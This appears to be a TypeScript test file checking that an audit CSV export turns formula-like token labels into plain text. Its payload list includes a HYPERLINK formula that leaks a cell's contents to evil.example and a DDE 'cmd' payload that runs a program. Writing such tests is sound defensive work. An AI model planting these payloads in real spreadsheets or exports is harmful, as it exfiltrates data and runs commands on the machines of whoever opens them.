// The audit CSV opens in a spreadsheet: a token label typed as a formula must arrive as text.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { csvCell } from '../../server/privacy/audit-csv.ts';

let server: TestServer;
before(async () => {
  server = await startTestServer();
});
after(() => server.close());

const LABELS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

test('no cell of the audit CSV starts a formula, whatever the token labels say', async () => {
  for (const label of LABELS) {
    const res = await server.api('/api/v1/tokens', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ role: 'privacy', label }) });
    const { token } = (await res.json()) as { token: string };
    // A read by the token writes an audit row with its label as the actor.
    assert.equal((await server.api('/api/v1/audit?limit=1', { token })).status, 200);
  }
  const csv = await (await server.api('/api/v1/audit?format=csv')).text();
  const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));
  for (const label of LABELS) assert.ok(cells.includes(`'${label}`), `${JSON.stringify(label)} is text`);
  assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell starts with = + - @ tab or CR');
});

test('ordinary cells are left as they are', () => {
  assert.equal(csvCell('Ana (research)'), '"Ana (research)"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell(null), '""');
  assert.equal(csvCell('a=b'), '"a=b"');
});
